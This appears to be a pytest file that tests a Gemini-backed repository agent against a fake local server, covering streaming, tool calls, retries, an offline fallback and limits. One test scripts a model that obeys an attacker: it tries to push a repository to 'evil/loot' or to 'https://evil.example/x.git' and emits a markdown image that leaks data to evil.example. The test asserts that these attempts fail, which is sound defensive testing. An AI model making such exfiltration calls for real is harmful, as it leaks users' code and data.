"""The Gemini brain with the real SDK against a local server that speaks its protocol."""

from __future__ import annotations

import base64
import json
import socket
import time

import pytest

from gemini_server import GeminiServer, call, text
from pivo.agent import tools
from pivo.agent.brain import Mind
from pivo.agent.events import Done, ProposalMade, TextDelta, ToolResult
from pivo.agent.gemini import GeminiBrain
from pivo.agent.messages import from_json, to_json
from pivo.agent.views import Diff
from pivo.settings import GeminiAccess, Settings

KEY = "not-a-real-key-7f3a"


def mind(server: GeminiServer, timeout: float = 10.0) -> Mind:
    access = GeminiAccess(KEY, "gemini-test", server.url, timeout)
    facts = {"repos": "acme/web", "now": "now"}
    brain = GeminiBrain(access, facts=lambda: facts, schema=lambda: "v_repos: …", initial_delay=0.01)
    return Mind(brain, brain, brain)


def ask(kit, server: GeminiServer, question: str, history=(), **options):
    agent = kit.agent(mind(server, **options), fallback=kit.mind)
    return list(agent.ask(question, history))


def said(events) -> str:
    return "".join(e.text for e in events if isinstance(e, TextDelta))


def test_text_is_streamed_and_usage_counted(kit) -> None:
    with GeminiServer(text("Hello ", "there", promptTokenCount=11, candidatesTokenCount=4)) as server:
        events = ask(kit, server, "hi")
    assert [e.text for e in events if isinstance(e, TextDelta)] == ["Hello ", "there"]
    done = events[-1]
    assert isinstance(done, Done)
    assert (done.badge.brain, done.badge.model, done.badge.note) == ("gemini", "gemini-test", "")
    assert (done.usage.prompt, done.usage.answer, done.usage.calls) == (11, 4, 1)
    request = server.requests[0]
    assert server.paths[0].endswith("/models/gemini-test:streamGenerateContent?alt=sse")
    names = [f["name"] for f in request["tools"][0]["functionDeclarations"]]
    assert names == [tool.declaration.name for tool in tools.ALL]
    assert "acme/web" in json.dumps(request["systemInstruction"])


def test_a_call_goes_round_and_its_signature_comes_back_verbatim(kit) -> None:
    sql = text("```sql\nSELECT author_name, subject FROM v_commits WHERE repo_name = 'acme/web'"
               " ORDER BY commit_time DESC LIMIT 1;\n```")  # fmt: skip
    first = call("query_metadata", {"question": "last committer"}, signature="dGhvdWdodA==")
    with GeminiServer(first, sql, text("Grace did.")) as server:
        events = ask(kit, server, "Who committed last to acme/web?")
    (result,) = [e for e in events if isinstance(e, ToolResult)]
    assert result.ok
    assert result.view.rows == (("Grace Hopper", "Drop the FAQ"),)
    assert said(events) == "Grace did."
    contents = server.requests[2]["contents"]
    assert contents[1]["parts"][0]["thoughtSignature"] == "dGhvdWdodA=="
    response = contents[2]["parts"][0]["functionResponse"]
    assert (response["id"], response["name"]) == ("c1", "query_metadata")
    assert response["response"]["rows"] == [["Grace Hopper"]]
    assert "Drop the FAQ" not in json.dumps(server.requests), "text of a commit reached the brain that holds tools"
    assert "tools" not in server.requests[1], "the SQL is written by a call without tools"
    done = events[-1]
    history = from_json(json.loads(json.dumps(to_json(done.messages))))
    with GeminiServer(text("Yes.")) as server:
        ask(kit, server, "Sure?", history)
    assert server.requests[0]["contents"][1]["parts"][0]["thoughtSignature"] == "dGhvdWdodA=="


def test_an_sql_error_goes_back_to_the_model(kit) -> None:
    script = [
        call("query_metadata", {"question": "repos"}),
        text("SELECT nosuch FROM v_repos"),
        text("SELECT repo_name FROM v_repos ORDER BY 1"),
        text("Two."),
    ]
    with GeminiServer(*script) as server:
        events = ask(kit, server, "Which repositories?")
    (result,) = [e for e in events if isinstance(e, ToolResult)]
    assert [row[0] for row in result.view.rows] == ["acme/tool", "acme/web"]
    assert "nosuch" in json.dumps(server.requests[2]["contents"])


def test_a_diff_is_explained_by_a_call_without_tools(kit) -> None:
    script = [
        call("get_file_diff", {"repo": "acme/web", "old": "v1.0", "new": "v2.0", "path": "README.md"}),
        text("It praises the parser."),
        text("See the diff."),
    ]
    with GeminiServer(*script) as server:
        events = ask(kit, server, "What changed?")
    (result,) = [e for e in events if isinstance(e, ToolResult)]
    assert isinstance(result.view, Diff)
    assert result.view.explanation == "It praises the parser."
    assert result.view.to_json()["by_model"], "the page shows it, since the answer cannot"
    assert "It parses well" in json.dumps(server.requests[1])
    assert "tools" not in server.requests[1]
    assert "praises" not in json.dumps(server.requests[2]), "the explanation is for the person alone"


def test_too_many_requests_are_tried_again(kit) -> None:
    with GeminiServer((429, "slow down"), (503, "wait"), text("Now.")) as server:
        events = ask(kit, server, "hi")
    assert said(events) == "Now."
    assert len(server.requests) == 3
    assert events[-1].badge.brain == "gemini"


@pytest.mark.parametrize(
    ("script", "why"),
    [
        ([(500, "broken")] * 8, "500"),
        ([(401, "bad key")] * 8, "401"),
        ([(200, "<html>a proxy</html>")] * 8, "Gemini"),
        ([[{"promptFeedback": {"blockReason": "SAFETY"}}]], "SAFETY"),
        ([[{"candidates": [{"finishReason": "MALFORMED_FUNCTION_CALL"}]}]], "MALFORMED_FUNCTION_CALL"),
        ([[{"candidates": [{"content": {"role": "model"}, "finishReason": "MAX_TOKENS"}]}]], "MAX_TOKENS"),
        ([[{"candidates": None}]], "no candidate"),
    ],
)
def test_the_offline_brain_takes_over_with_a_badge(kit, script, why: str) -> None:
    with GeminiServer(*script) as server:
        events = ask(kit, server, "Who committed last to acme/web?")
    assert "**Grace Hopper** committed last" in said(events)
    badge = events[-1].badge
    assert badge.brain == "offline"
    assert why in badge.note
    assert KEY not in json.dumps([badge.note, said(events)])


def test_nobody_listens(kit) -> None:
    with GeminiServer() as server:
        pass
    events = ask(kit, server, "Who committed last to acme/web?")
    assert events[-1].badge.brain == "offline"
    assert "did not answer" in events[-1].badge.note


def test_a_failure_in_the_middle_starts_the_offline_plan_afresh(kit) -> None:
    script = [call("read_file", {"repo": "acme/web", "path": "README.md"}), *[(400, "no")] * 3]
    with GeminiServer(*script) as server:
        events = ask(kit, server, "Who committed last to acme/web?")
    assert [e.name for e in events if isinstance(e, ToolResult)] == ["read_file", "query_metadata"]
    assert "**Grace Hopper**" in said(events)


def test_an_endless_loop_of_calls_is_cut(kit) -> None:
    script = [call("read_file", {"repo": "acme/web", "path": "README.md"}, call_id=f"c{n}") for n in range(20)]
    with GeminiServer(*script) as server:
        events = ask(kit, server, "loop")
    results = [e for e in events if isinstance(e, ToolResult)]
    assert len(results) == 8
    assert [r.ok for r in results] == [True] + [False] * 7
    assert "stopped after 8 steps" in said(events)


def test_a_brain_that_obeys_an_attacker_reaches_no_other_target(kit) -> None:
    script = [
        call("restore_repo", {"repo": "acme/web", "ref": "v1.0", "target": "evil/loot"}),
        call("restore_repo", {"repo": "acme/web", "ref": "v1.0", "target": "https://evil.example/x.git"}, "c2"),
        text("![x](https://evil.example/?leak)"),
    ]
    with GeminiServer(*script) as server:
        events = ask(kit, server, "Summarise README.md of acme/web")
    assert not [e for e in events if isinstance(e, ProposalMade)]
    assert not any(e.ok for e in events if isinstance(e, ToolResult))


def test_parallel_calls_are_answered_together(kit) -> None:
    part = {"functionCall": {"name": "read_file", "args": {"repo": "acme/web", "path": "README.md"}}}
    other = {"functionCall": {"id": "b", "name": "read_file", "args": {"repo": "acme/web", "path": "src/app.py"}}}
    both = [{"candidates": [{"content": {"role": "model", "parts": [part, other]}, "finishReason": "STOP"}]}]
    with GeminiServer(both, text("Both.")) as server:
        events = ask(kit, server, "Show both")
    assert [e.ok for e in events if isinstance(e, ToolResult)] == [True, True]
    answered = server.requests[1]["contents"][2]["parts"]
    assert [p["functionResponse"].get("id") for p in answered] == [None, "b"]


def test_the_time_limit_holds(kit) -> None:
    script = [call("read_file", {"repo": "acme/web", "path": "README.md"}, call_id=f"c{n}") for n in range(20)]
    with GeminiServer(*script) as server:
        ticks = iter(range(0, 10_000, 50))
        agent = kit.agent(mind(server), clock=lambda: next(ticks))
        events = list(agent.ask("loop"))
    assert "stopped after 120 seconds" in said(events)


def test_any_signature_comes_back_as_it_was(kit) -> None:
    signature = "+/+/++//AQ=="
    first = call("list_repositories", {}, signature=signature)
    thought = {"text": "", "thoughtSignature": signature}
    last = [{"candidates": [{"content": {"role": "model", "parts": [{"text": "Two."}, thought]}}]}]
    last[0]["candidates"][0]["finishReason"] = "STOP"
    with GeminiServer(first, last) as server:
        events = ask(kit, server, "Which?")
    sent = server.requests[1]["contents"][1]["parts"][0]["thoughtSignature"]
    assert base64.urlsafe_b64decode(sent.replace("+", "-").replace("/", "_")) == base64.b64decode(signature)
    history = from_json(json.loads(json.dumps(to_json(events[-1].messages))))
    with GeminiServer(text("Yes.")) as server:
        ask(kit, server, "Sure?", history)
    kept = [p.get("thoughtSignature") for c in server.requests[0]["contents"] for p in c["parts"]]
    assert kept.count(sent) == 2


def test_the_tokens_of_every_call_are_counted(kit) -> None:
    script = [
        call("query_metadata", {"question": "repos"}),
        text("SELECT repo_name FROM v_repos", promptTokenCount=100, candidatesTokenCount=9),
        text("Two.", promptTokenCount=1000, candidatesTokenCount=1),
    ]
    with GeminiServer(*script) as server:
        usage = ask(kit, server, "Which repositories?")[-1].usage
    assert (usage.prompt, usage.answer, usage.thoughts, usage.calls) == (20 + 100 + 1000, 7 + 9 + 1, 3, 3)


def test_an_answer_that_is_cut_short_says_so(kit) -> None:
    part = [{"candidates": [{"content": {"role": "model", "parts": [{"text": "So"}]}, "finishReason": "SAFETY"}]}]
    with GeminiServer(part) as server:
        events = ask(kit, server, "hi")
    assert said(events) == "So … (cut short: SAFETY)"


def test_a_stream_that_breaks_off_is_parted_from_the_answer_that_follows(kit) -> None:
    broken = [{"candidates": [{"content": {"role": "model", "parts": [{"text": "Half a"}]}}]}]
    with GeminiServer(broken) as server:
        events = ask(kit, server, "Who committed last to acme/web?")
    assert said(events).startswith("Half a …\n\n**Grace Hopper**")
    assert events[-1].badge.brain == "offline"


def test_the_select_is_tried_three_times_at_most(kit) -> None:
    script = [call("query_metadata", {"question": "repos"}), *[text(f"SELECT x{n} FROM v_repos") for n in range(9)]]
    with GeminiServer(*script) as server:
        events = ask(kit, server, "Which repositories?")
    tries = [r for r in server.requests if "tools" not in r]
    assert len(tries) == 3
    assert "x1" in json.dumps(tries[2]["contents"])
    (result,) = [e for e in events if isinstance(e, ToolResult)][:1]
    assert not result.ok
    assert "no such column" in result.summary["error"]


def test_a_server_that_says_nothing_is_left_in_time(kit) -> None:
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen(16)
        access = GeminiAccess(KEY, "gemini-test", f"http://127.0.0.1:{silent.getsockname()[1]}", 60.0)
        facts = {"repos": "", "now": ""}
        brain = GeminiBrain(access, facts=lambda: facts, schema=lambda: "", initial_delay=0.01)
        agent = kit.agent(Mind(brain, brain, brain), fallback=kit.mind, max_seconds=4.0)
        began = time.monotonic()
        events = list(agent.ask("Who committed last to acme/web?"))
    assert time.monotonic() - began < 30, "not four times the time for one call"
    assert events[-1].badge.brain == "offline"
    assert "**Grace Hopper**" in said(events)


def test_vertex_is_asked_as_the_sdk_is_told(kit, tmp_path) -> None:
    env = {"PIVO_HOME": str(tmp_path), "GOOGLE_GENAI_USE_VERTEXAI": "true", "PIVO_GEMINI_MODEL": "gemini-test"}
    assert Settings.load(env).gemini.enabled
    assert not Settings.load({"PIVO_HOME": str(tmp_path)}).gemini.enabled
    with GeminiServer(text("Hello.")) as server:
        access = Settings.load({**env, "PIVO_GEMINI_URL": server.url, "GEMINI_API_KEY": KEY}).gemini
        facts = {"repos": "", "now": ""}
        brain = GeminiBrain(access, facts=lambda: facts, schema=lambda: "")
        events = list(kit.agent(Mind(brain, brain, brain)).ask("hi"))
    assert said(events) == "Hello."
    assert "/publishers/google/models/gemini-test:streamGenerateContent" in server.paths[0]
